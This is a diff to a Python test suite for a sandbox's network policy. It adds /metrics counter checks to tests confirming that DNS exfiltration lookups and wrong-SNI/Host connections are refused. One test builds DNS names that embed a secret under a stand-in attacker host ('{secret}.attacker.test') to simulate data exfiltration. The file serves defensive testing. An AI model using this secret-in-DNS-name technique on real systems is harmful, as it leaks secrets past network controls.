@@ -55,6 +55,16 @@ def denials(client, sid):
     return info["denials"]
 
 
+def metric(client, name):
+    """A node-wide counter of /metrics."""
+    status, _, body = client.raw("GET", "/metrics")
+    assert status == 200, body
+    for line in body.decode().splitlines():
+        if line.startswith(name + "{"):
+            return int(line.rsplit(" ", 1)[1])
+    raise AssertionError(f"{name} not in /metrics")
+
+
 def test_named_rule_reaches_its_mirror_and_nothing_else(client, peer):
     sid = client.create_ok([PYTHON], memory_mb=256, network={"allow": ["pypi"]})
     ns = nameserver(client, sid)
@@ -122,9 +132,11 @@ def test_exfiltration_lookup_never_reaches_dnsmasq(client, peer):
     names = [f"{secret}.attacker.test", f"{secret}.pypi.mirror.test",
              f"{secret}-npm.mirror.test"]
     ns = nameserver(client, sid)
+    refused = metric(client, "dsec_dns_refused_total")
     got = probe(client, sid, [["resolve", n] for n in names]
                 + [["dns", ns, n, 16] for n in names])
     assert got == ["gaierror"] * 3 + ["rcode:5"] * 3, got
+    assert metric(client, "dsec_dns_refused_total") >= refused + 6
     asked = peer.queries()
     assert not [q for q in asked if secret.lower() in q], asked
     d = denials(client, sid)
@@ -155,6 +167,8 @@ def test_wrong_sni_or_host_on_an_allowed_address_is_closed(client, peer):
     sid = client.create_ok([PYTHON], memory_mb=256, network={"allow": ["pypi"]})
     # npm.mirror.test is served by the same mirror peer; pypi's address is
     # allowed, the name npm is not.
+    checked = metric(client, "dsec_name_check_checked_total")
+    closed = metric(client, "dsec_name_check_closed_total")
     got = probe(client, sid, [
         ["tls", "pypi.mirror.test", peer.pypi],
         ["tls", "npm.mirror.test", peer.pypi],
@@ -164,6 +178,8 @@ def test_wrong_sni_or_host_on_an_allowed_address_is_closed(client, peer):
     ])
     assert got == ["ok:host=pypi.mirror.test", "closed", "ok:host=pypi.mirror.test", "closed",
                    "closed"], got
+    assert metric(client, "dsec_name_check_checked_total") >= checked + 5
+    assert metric(client, "dsec_name_check_closed_total") >= closed + 3
     d = denials(client, sid)
     assert f"sni npm.mirror.test {peer.pypi}:443" in d["recent"], d
     assert f"host npm.mirror.test {peer.pypi}:80" in d["recent"], d
